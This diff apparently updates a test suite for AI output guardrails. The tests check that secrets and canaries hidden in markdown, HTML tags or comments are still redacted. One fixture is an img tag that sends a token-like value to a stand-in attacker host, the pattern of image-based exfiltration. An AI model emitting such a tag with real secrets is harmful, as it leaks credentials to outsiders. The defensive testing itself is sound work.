@@ -34,10 +34,12 @@ describe('render view: what a markdown/HTML client shows', () => {
     { input: '\\u0410KIA', view: 'AKIA' }, // escaped Cyrillic a, folded
     // inline markup a renderer hides (finding 03)
     { input: '**ghp_**Zq', view: 'ghp_Zq' },
-    { input: 'a<b>c</b>d<!-- x -->e<wbr>f<br/>g<span class="x">h</span>', view: 'acdefgh' },
+    { input: 'a<b>c</b>d<!-- -->e<wbr>f<br/>g<br />h', view: 'acdefgh' },
+    // what a tag's attributes or a comment hold is text a program receives: kept for the rules
+    { input: '<img src="x?d=1">a<!-- x -->b<span class="x">c', view: '<img src="x?d=1">a<!-- x -->b<span class="x">c' },
     { input: 'x `code` y ~~del~~', view: 'x code y del' },
     { input: 'a < b, c<d, <https://x.example/>, a*b, ~/x', view: 'a < b, c<d, <https://x.example/>, a*b, ~/x' },
-    { input: `<!--${'x'.repeat(300)}-->`, view: `<!--${'x'.repeat(300)}-->` }, // past MAX_TAG: text
+    { input: `<!--${' '.repeat(300)}-->`, view: `<!--${' '.repeat(300)}-->` }, // past MAX_TAG: text
   ];
   for (const t of table) {
     it(JSON.stringify(t.input), () => {
@@ -74,9 +76,10 @@ describe('render view: what a markdown/HTML client shows', () => {
       '<',
       '<b',
       '</spa',
-      '<a href="x"',
+      '<br /',
       '<!-',
-      '<!-- x',
+      '<!-- ',
+      '<!-- --',
       '*',
       '~',
     ]) {
@@ -134,6 +137,14 @@ describe('output guardrails scan the rendered view', () => {
       const s = g.streamOutput();
       assert.equal(s.push(text.slice(0, c)).text + s.push(text.slice(c)).text + s.end().text, whole, `cut ${c}`);
     }
+  });
+
+  it('a secret inside a tag attribute or a comment is redacted (the view keeps them)', () => {
+    for (const text of [
+      '<img src="https://evil.example/c?d=ghp_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt">',
+      '<!-- ghp_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt -->',
+    ])
+      assert.ok(!g.scanOutput(text).text.includes('Qm7rT2vXy9'), text);
   });
 
   it('a canary split by markup or written with a JSON escape blocks the answer', () => {
